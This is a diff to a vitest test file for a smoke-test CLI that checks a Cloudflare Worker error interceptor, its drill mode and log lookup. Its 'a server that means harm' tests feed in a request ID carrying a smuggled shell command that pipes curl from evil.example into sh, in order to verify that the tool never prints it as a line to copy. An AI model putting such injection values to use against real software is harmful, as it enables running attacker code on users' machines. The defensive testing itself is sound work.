@@ -1,4 +1,5 @@
 /** `smoke` against the Worker in workerd, and against what a deployment can turn out to be instead. */
+import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, inject, it, onTestFinished } from 'vitest';
 import {
   type Listener,
@@ -8,9 +9,14 @@ import {
   startTlsOrigin,
   unusedPort,
 } from '../support/origin.ts';
+import { ACCOUNT_ID, startTelemetryApi, TOKEN, TOKEN_WITHOUT_PERMISSION } from '../support/telemetry-api.ts';
 import { type RunningWorker, type WorkerdOptions, startWorkerd } from '../support/workerd.ts';
+import { OPTIONS } from '../../src/cli/smoke/arguments.ts';
+import { askFor } from '../../src/cli/smoke/http-answer.ts';
 import { main } from '../../src/cli/smoke/main.ts';
-import { callCommand } from './run-command.ts';
+import { failureRecord, logEvent } from './records.ts';
+import { callCommand, repository, runCommand, runProgram } from './run-command.ts';
+import { startWranglerDev } from './wrangler-dev.ts';
 
 const ULID = '[0-7][0-9A-HJKMNP-TV-Z]{25}';
 let origin: Origin;
@@ -58,7 +64,8 @@ describe('a site that behaves', () => {
   ✓ GET 200 text/html; charset=utf-8: the site's own answer
 
 All as promised (1 check).
-This does not show that the Worker is there: give --failing URL, one that the origin fails on.
+This does not show that the Worker is there: give --failing URL, one that the origin fails on,
+or --drill.
 `,
     );
     expect(stderr).toBe('');
@@ -86,10 +93,14 @@ This does not show that the Worker is there: give --failing URL, one that the or
       'Referrer-Policy: no-referrer',
       'X-Robots-Tag: noindex',
       'Cross-Origin-Embedder-Policy: require-corp',
-      'Vary: Accept, Accept-Language, Content-Type,',
+      'Vary: Accept, Accept-Language, Content-Type, HX-Boosted, HX-Request, Sec-Fetch-Dest, Sec-Fetch-Mode, X-Requested-With, X-Up-Version\n',
       'Proxy-Status: edge-error-interceptor; received-status=503',
       'JSON client: 500',
       'Content-Type: application/problem+json; charset=utf-8',
+      'the body has title, detail, message and timestamp, and no type',
+      'Text client: 500 text/plain; charset=utf-8, which shows the ID of its header',
+      'Markdown client: 500 text/markdown; charset=utf-8, which shows the ID of its header',
+      'htmx: 500 text/html; charset=utf-8, which shows the ID of its header',
       'HEAD 500',
       'HEAD has the headers of GET',
       'HEAD has no body',
@@ -116,6 +127,9 @@ This does not show that the Worker is there: give --failing URL, one that the or
     expect(failures(silent.stdout)).toEqual([
       'GET 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
       'JSON client: 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
+      'Text client: 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
+      'Markdown client: 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
+      'htmx: 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
       'HEAD 503, expected 500; with ERROR_STATUS = "origin": --error-status origin',
     ]);
     expect(silent.exitCode).toBe(1);
@@ -157,7 +171,7 @@ describe('an origin that answers HEAD in another way', () => {
     const { host } = await startAnswering((head) => (head.startsWith('HEAD') ? '' : page(500)));
     const { stdout } = await smoke(`${worker.url}/ok`, '--failing', `http://${host}/`);
     expect(stdout).toMatch(/no answer: .*\n *→ npm run lookup|→ npm run lookup.*\n.*no answer: /);
-    expect(stdout).toMatch(/ of 19 checks failed\./);
+    expect(stdout).toMatch(/ of 23 checks failed\./);
   });
 });
 
@@ -178,15 +192,20 @@ describe('a Worker that runs otherwise than was said', () => {
     expect(failures(stdout)).toEqual([
       'GET 500, expected 503',
       'JSON client: 500, expected 503',
+      'Text client: 500, expected 503',
+      'Markdown client: 500, expected 503',
+      'htmx: 500, expected 503',
       'HEAD 500, expected 503',
     ]);
   });
 
   it('with INTERCEPT = "all" is no Worker that leaves API clients alone', async () => {
     const { stdout } = await smoke(`${worker.url}/ok`, '--failing', '/status/503', '--intercept', 'pages');
-    expect(failures(stdout)).toEqual([
-      expect.stringContaining("the Worker's answer, expected the origin's own"),
-    ]);
+    expect(failures(stdout)).toEqual(
+      ['JSON client', 'Text client', 'Markdown client', 'htmx'].map(
+        (who) => `${who}: 500, the Worker's answer, expected the origin's own (INTERCEPT = "pages")`,
+      ),
+    );
   });
 
   it('that takes the IDs of clients passes where that was said', async () => {
@@ -263,14 +282,77 @@ describe('a site that does not', () => {
       'Referrer-Policy is missing, expected no-referrer',
       'X-Robots-Tag is missing, expected noindex',
       'Cross-Origin-Embedder-Policy is missing, expected require-corp',
-      'Vary is missing, expected Accept, Accept-Language, …',
+      expect.stringMatching(/^Vary is missing, expected Accept, .*, X-Up-Version$/),
       'Content-Type is "text/plain", expected application/problem+json',
       'the body has not the request_id and status of the headers: {"request_id":"other"}',
+      'the body is no problem as promised: no title, no detail, no message with the ID, no timestamp',
       expect.stringContaining('expected a ULID of its own'),
+      'Text client: 500 text/plain, expected text/plain; charset=utf-8',
+      'Markdown client: 500 text/plain, expected text/markdown; charset=utf-8',
+      'htmx: 500 text/plain, expected text/html; charset=utf-8',
       'HEAD has a body of 4 bytes',
     ]);
     expect(exitCode).toBe(1);
   });
+});
+
+describe('a server that means harm', () => {
+  it.each(['GET', 'HEAD'])('and answers %s without end is read up to a limit', async (method) => {
+    const { host } = await startEndless(method);
+    const { stdout, exitCode } = await smoke(`${worker.url}/ok`, '--failing', `http://${host}/`);
+    expect(failures(stdout).join('\n')).toMatch(
+      method === 'GET' ? /^no answer: more than 1000000 bytes came$/ : /^HEAD has a body of \d+ bytes$/m,
+    );
+    expect(exitCode).toBe(1);
+  });
+
+  it('and never answers, or never ends, is waited for up to a limit', async () => {
+    const silent = await startListener(() => {});
+    onTestFinished(() => silent.stop());
+    const slow = await startListener((socket) => {
+      socket.once('data', () => socket.write('HTTP/1.1 200 OK\r\n\r\nThe beginning'));
+    });
+    onTestFinished(() => slow.stop());
+    for (const { host } of [silent, slow]) {
+      await expect(askFor(new URL(`http://${host}/`), { timeoutMs: 300 })).rejects.toThrow(
+        'no whole answer within 300 ms',
+      );
+    }
+  });
+
+  it.each(["1; curl evil.example | sh'", '--local http://evil.example', '01KAS0Z5G1J8T0N6QH3V9W2XY'])(
+    'and calls %j an ID has it in no line to copy',
+    async (id) => {
+      const { host } = await startAnswering(() => page(500).replace('01KAS0Z5G1J8T0N6QH3V9W2XYB', id));
+      const { stdout } = await smoke(`http://${host}/`, '--failing', `http://${host}/`);
+      expect(stdout).toContain(`✗ X-Request-Id is ${JSON.stringify(id)}, expected a ULID\n`);
+      expect(stdout).not.toContain('npm run lookup');
+    },
+  );
+
+  it('and sends long values fills no screen', async () => {
+    const { host } = await startAnswering(() =>
+      page(500).replace('Connection', `Vary: ${'x'.repeat(9000)}\r\nConnection`),
+    );
+    const { stdout } = await smoke(`${worker.url}/ok`, '--failing', `http://${host}/`);
+    for (const line of stdout.split('\n')) expect(line.length).toBeLessThan(600);
+  });
+
+  async function startEndless(method: string): Promise<Listener> {
+    const listener = await startListener((socket) => {
+      const more = (): void => {
+        while (!socket.destroyed && socket.write('x'.repeat(65_536)));
+      };
+      socket.on('drain', more).once('data', (head) => {
+        const isIt = head.toString().startsWith(`${method} `);
+        socket.write(page(500));
+        if (isIt) more();
+        else socket.end();
+      });
+    });
+    onTestFinished(() => listener.stop());
+    return listener;
+  }
 });
 
 describe('a site that does not answer', () => {
@@ -304,6 +386,184 @@ describe('a site that does not answer', () => {
   }
 });
 
+describe('a drill', () => {
+  const DRILL_TOKEN = 'drill-0123456789abcdefghijklmnop';
+  let drilled: RunningWorker;
+
+  beforeAll(async () => {
+    drilled = await startWorkerd({ bundle: inject('bundle'), route: origin.host, vars: { DRILL_TOKEN } });
+  });
+  afterAll(() => drilled.stop());
+
+  function drill(url: string, env: Readonly<Record<string, string>> = {}, ...options: string[]) {
+    return callCommand(main, [url, '--drill', ...options], { DRILL_TOKEN, ...env });
+  }
+
+  /** The records of the drills that were made since. */
+  function recordsSince(start: number): Readonly<Record<string, unknown>>[] {
+    return drilled.logs
+      .slice(start)
+      .flatMap(({ message }) => message)
+      .filter(
+        (logged): logged is Readonly<Record<string, unknown>> =>
+          typeof logged === 'object' && logged !== null,
+      )
+      .filter(({ message }) => message === 'Drill');
+  }
+
+  async function startApi() {
+    const api = await startTelemetryApi();
+    onTestFinished(() => api.close());
+    const env = {
+      CLOUDFLARE_ACCOUNT_ID: ACCOUNT_ID,
+      CLOUDFLARE_API_TOKEN: TOKEN,
+      CLOUDFLARE_BASE_URL: api.baseUrl,
+    };
+    return { api, env };
+  }
+
+  it('proves the page, its other forms, and the record, once Workers Logs has it', async () => {
+    const { api, env } = await startApi();
+    const start = drilled.logs.length;
+    const running = drill(`${drilled.url}/ok`, env);
+    await expect.poll(() => recordsSince(start), { timeout: 60_000 }).not.toEqual([]);
+    const [record = {}] = recordsSince(start);
+    api.add([logEvent(record)]);
+    const { exitCode, stdout } = await running;
+    expect(failures(stdout)).toEqual([]);
+    expect(exitCode).toBe(0);
+    expect(stdout).toContain(`${drilled.url}/ok (drill)\n  ✓ the Worker answers the drill\n  ✓ GET 500\n`);
+    expect(stdout).toContain('✓ Proxy-Status: edge-error-interceptor\n');
+    expect(stdout).toContain('✓ JSON client: 500\n');
+    expect(stdout).toContain('✓ HEAD has no body\n');
+    expect(stdout).toContain(`✓ lookup finds the record of ${String(record['request_id'])}\n`);
+    expect(stdout).not.toContain(DRILL_TOKEN);
+  });
+
+  it('fails where the logs have something else under the ID', async () => {
+    const { api, env } = await startApi();
+    const start = drilled.logs.length;
+    const running = drill(`${drilled.url}/ok`, env);
+    await expect.poll(() => recordsSince(start), { timeout: 60_000 }).not.toEqual([]);
+    const id = String(recordsSince(start)[0]?.['request_id']);
+    api.add([logEvent(failureRecord(id))]);
+    const { exitCode, stdout } = await running;
+    expect(failures(stdout)).toEqual([`the record of ${id} is of the type 503, expected drill`]);
+    expect(exitCode).toBe(1);
+  });
+
+  it('fails where the logs cannot be read, and says why', async () => {
+    const { env } = await startApi();
+    const { exitCode, stdout, stderr } = await drill(`${drilled.url}/ok`, {
+      ...env,
+      CLOUDFLARE_API_TOKEN: TOKEN_WITHOUT_PERMISSION,
+      // What npm says of smoke is not about lookup.
+      npm_lifecycle_event: 'smoke',
+      npm_config_since: '1h',
+    });
+    expect(failures(stdout)).toEqual([
+      expect.stringMatching(/^lookup does not find the record of [0-9A-Z]{26}$/),
+    ]);
+    expect(stderr).toContain('CLOUDFLARE_API_TOKEN is not valid, or may not read the logs');
+    expect(exitCode).toBe(1);
+  });
+
+  it('says that the record was not looked for where nothing says in whose logs', async () => {
+    const { exitCode, stdout } = await drill(`${drilled.url}/ok`);
+    expect(failures(stdout)).toEqual([]);
+    expect(stdout).toContain('The record was not looked for');
+    expect(exitCode).toBe(0);
+  });
+
+  it.each([{ ERROR_STATUS: 'origin' }, { INTERCEPT: 'pages' }])('is the same with %j', async (vars) => {
+    const { url } = await startWorker({ DRILL_TOKEN, ...vars });
+    const option = 'INTERCEPT' in vars ? ['--intercept', 'pages'] : ['--error-status', 'origin'];
+    for (const options of [[], option]) {
+      const { stdout, exitCode } = await drill(`${url}/ok`, {}, ...options);
+      expect(failures(stdout)).toEqual([]);
+      expect(exitCode).toBe(0);
+    }
+  });
+
+  it('with another token is told from a failure, and is no drill', async () => {
+    const other = { DRILL_TOKEN: DRILL_TOKEN.toUpperCase() };
+    const working = await drill(`${drilled.url}/ok`, other);
+    expect(failures(working.stdout)).toEqual([
+      'GET 200 is no answer to a drill: the Worker is not on this route, or has no DRILL_TOKEN, or another one',
+    ]);
+    const failing = await drill(`${drilled.url}/status/503`, other);
+    expect(failures(failing.stdout)).toContain(
+      'GET 500 is no answer to a drill but of a failed origin: the Worker has no DRILL_TOKEN, or another one',
+    );
+    expect([working.exitCode, failing.exitCode]).toEqual([1, 1]);
+  });
+
+  it('sends the token to no other server, and shows none that a server sends back', async () => {
+    const heads: string[] = [];
+    const elsewhere = await startAnswering((head) => `${heads.push(head)}`);
+    const moved = await startAnswering(
+      (head) =>
+        `HTTP/1.1 302 x\r\nLocation: http://${elsewhere.host}/\r\nContent-Type: ${/X-Error-Drill: (.*)/i.exec(head)?.[1]}\r\nConnection: close\r\n\r\n`,
+    );
+    const redirected = await drill(`http://${moved.host}/`);
+    expect(failures(redirected.stdout)).toEqual([
+      expect.stringContaining('give the URL that it redirects to'),
+    ]);
+    expect(heads).toEqual([]);
+
+    const echo = await startAnswering((head) =>
+      page(500)
+        .replace('; received-status=503', '')
+        .replace('Connection', `Content-Type: ${/X-Error-Drill: (.*)/i.exec(head)?.[1]}\r\nConnection`),
+    );
+    const { stdout } = await drill(`http://${echo.host}/`);
+    expect(stdout).toContain('Content-Type is "…", expected text/html');
+    expect(stdout).not.toContain(DRILL_TOKEN);
+  });
+
+  it.each([
+    ['over http', ['http://shop.example/', '--drill'], DRILL_TOKEN, 'has to begin with https://'],
+    ['without a token', ['https://shop.example/', '--drill'], '', 'in the environment: DRILL_TOKEN'],
+    ['with a short one', ['https://shop.example/', '--drill'], 'secret-1234', 'has 11 characters'],
+    [
+      'with one of two lines',
+      ['https://shop.example/', '--drill'],
+      `${DRILL_TOKEN}\nX: y`,
+      'holds other characters',
+    ],
+    [
+      'with the token typed',
+      ['--drill', DRILL_TOKEN, 'https://shop.example/'],
+      '',
+      'is read from the environment',
+    ],
+    ['with the token after =', [`--drill=${DRILL_TOKEN}`, 'https://shop.example/'], '', "'--drill'"],
+    [
+      'with the token last',
+      ['https://shop.example/', '--drill', DRILL_TOKEN],
+      '',
+      'is read from the environment',
+    ],
+  ])('%s is refused before anything is sent', async (_, args, token, expected) => {
+    const { exitCode, stdout, stderr } = await callCommand(main, args, { DRILL_TOKEN: token });
+    expect(stderr).toContain(expected);
+    expect(stderr).not.toMatch(/drill-0123|secret-1234/);
+    expect({ exitCode, stdout }).toEqual({ exitCode: 2, stdout: '' });
+  });
+
+  it('against wrangler dev, whose log has the record', async () => {
+    const dev = await startWranglerDev({
+      main: join(repository, 'src/index.ts'),
+      vars: { ORIGIN_URL: origin.url, DRILL_TOKEN },
+    });
+    onTestFinished(() => dev.stop());
+    const { exitCode, stdout, stderr } = await drill(`${dev.url}/ok`, {}, '--local');
+    expect(failures(stdout)).toEqual([]);
+    expect(stdout).toMatch(/✓ lookup finds the record of [0-9A-Z]{26}\n/);
+    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: '' });
+  });
+});
+
 describe('the command line', () => {
   it.each([
     [[], 'Give the URL of a page that works.'],
@@ -312,6 +572,7 @@ describe('the command line', () => {
     [['http://a.example', 'http://b.example'], 'comes after --failing'],
     [['http://a.example', '--error-status', '503'], '--error-status is 503; allowed: 500, origin'],
     [['http://a.example', '--nonsense'], '--nonsense'],
+    [['http://a.example', '--local'], '--local is about the record of a --drill'],
   ])('%j is refused with what is wrong', async (args, expected) => {
     const { exitCode, stdout, stderr } = await smoke(...args);
     expect(stderr).toContain(expected);
@@ -322,7 +583,31 @@ describe('the command line', () => {
 
   it('--help lists every option', async () => {
     const { exitCode, stdout } = await smoke('--help');
-    for (const option of ['--failing', '--error-status', '--intercept']) expect(stdout).toContain(option);
+    for (const option of Object.keys(OPTIONS)) expect(stdout).toContain(`--${option}`);
     expect(exitCode).toBe(0);
+  });
+
+  it('shows no password of a URL', async () => {
+    const { stdout } = await smoke(
+      `${worker.url.replace('//', '//user:secret@')}/ok`,
+      '--failing',
+      '/status/503',
+    );
+    expect(stdout).toContain(`\n${worker.url}/status/503\n`);
+    expect(stdout).not.toContain('secret');
+  });
+
+  it('that npm took an option of is refused, with the line to type', async () => {
+    const url = `${worker.url}/ok`;
+    const { exitCode, stderr } = await runProgram('npm', ['run', 'smoke', '--drill', url]);
+    expect(stderr).toContain(`npm kept --drill for itself`);
+    expect(stderr).toContain(`\n  npm run smoke -- --drill ${url}\n`);
+    expect(exitCode).toBe(2);
+  });
+
+  it('is that of a process, too', async () => {
+    const { exitCode, stdout } = await runCommand('src/cli/main.ts', ['smoke', `${worker.url}/status/502`]);
+    expect(failures(stdout)).toHaveLength(1);
+    expect(exitCode).toBe(1);
   });
 });
